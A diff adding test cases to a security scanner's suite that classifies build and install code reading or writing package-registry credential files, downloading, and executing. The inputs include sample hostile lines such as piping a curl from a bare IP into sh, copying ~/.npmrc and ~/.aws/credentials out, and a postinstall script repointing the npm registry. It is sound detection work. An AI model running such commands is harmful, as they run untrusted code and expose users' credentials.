@@ -27,6 +27,10 @@ describe('readBehaviors', () => {
     expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
     expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
     expect(kinds('gh auth status', 'shell')).toEqual([]);
+    expect(kinds('echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" >> ~/.npmrc', 'shell')).toContain('credential-file-write');
+    expect(kinds("with open(os.path.expanduser('~/.pypirc'), 'w') as f:", 'python')).toEqual(['credential-file-write']);
+    expect(kinds("config = open(os.path.expanduser('~/.pypirc')).read()", 'python')).toEqual(['credential-file']);
+    expect(kinds('cat ~/.npmrc > leak.txt', 'shell')).toEqual(['credential-file']);
     expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
     expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
     expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
@@ -839,6 +843,30 @@ describe('build-code-behavior: plain Makefiles and *.mk', () => {
   it('names a credential store in a task (a kubeconfig for a test cluster) at low, and a send at medium', () => {
     expect(buildFinding(added('Makefile', 'KUBECONFIG ?= $$HOME/.kube/config\ne2e:\n\tKUBECONFIG=$(KUBECONFIG) go test ./test/e2e/...'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
     expect(buildFinding(added('Makefile', 'coverage:\n\tcurl -s -F file=@coverage.out https://coverage.example.com/upload'))).toMatchObject({ severity: 'medium' });
+  });
+
+  it("says a task that writes a registry's credential file writes it (low, as a store named), and one that reads it reads it", () => {
+    const npmrc = buildFinding(added('Makefile', 'publish:\n\techo "//registry.npmjs.org/:_authToken=$(NPM_TOKEN)" > .npmrc\n\tnpm publish'));
+    expect(npmrc).toMatchObject({ severity: 'low', line: 2, title: "Makefile writes a package registry's credential file when make runs" });
+    expect(npmrc?.detail).toContain("writes a package registry's credential file (line 2");
+    expect(npmrc?.detail).not.toContain('reads a credential store');
+    expect(buildFinding(added('Makefile', 'release:\n\tprintf "[pypi]\\nusername = __token__\\npassword = %s\\n" "$$PYPI_TOKEN" | tee ~/.pypirc >/dev/null'))).toMatchObject({ severity: 'low', title: "Makefile writes a package registry's credential file when make runs" });
+    // A read of the same file stays a read, also when its text is redirected elsewhere.
+    expect(buildFinding(added('Makefile', 'debug:\n\tcat ~/.npmrc > /tmp/npmrc.txt'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
+    expect(buildFinding(added('Makefile', 'debug:\n\tcp ~/.aws/credentials build/ && echo "registry=https://r.example" > .npmrc'))).toMatchObject({ title: 'Makefile reads credential files when make runs' });
+  });
+
+  it("rates install-time code that writes a registry's credential file medium, not as a read (high)", () => {
+    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
+    const write = buildFinding(
+      withScript,
+      added('scripts/setup.js', "const fs = require('fs');\nconst os = require('os');\nfs.appendFileSync(`${os.homedir()}/.npmrc`, 'registry=https://registry.npm-cache.dev/\\n');"),
+    );
+    expect(write).toMatchObject({ severity: 'medium', path: 'scripts/setup.js', line: 3 });
+    expect(write?.title).toContain("writes a package registry's credential file");
+    const read = buildFinding(withScript, added('scripts/setup.js', "const fs = require('fs');\nconst t = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');"));
+    expect(read).toMatchObject({ severity: 'high' });
+    expect(read?.title).toContain('reads credential files');
   });
 
   it('reads Makefile.common and other Makefile.<name> includes, not Automake sources or copies', () => {
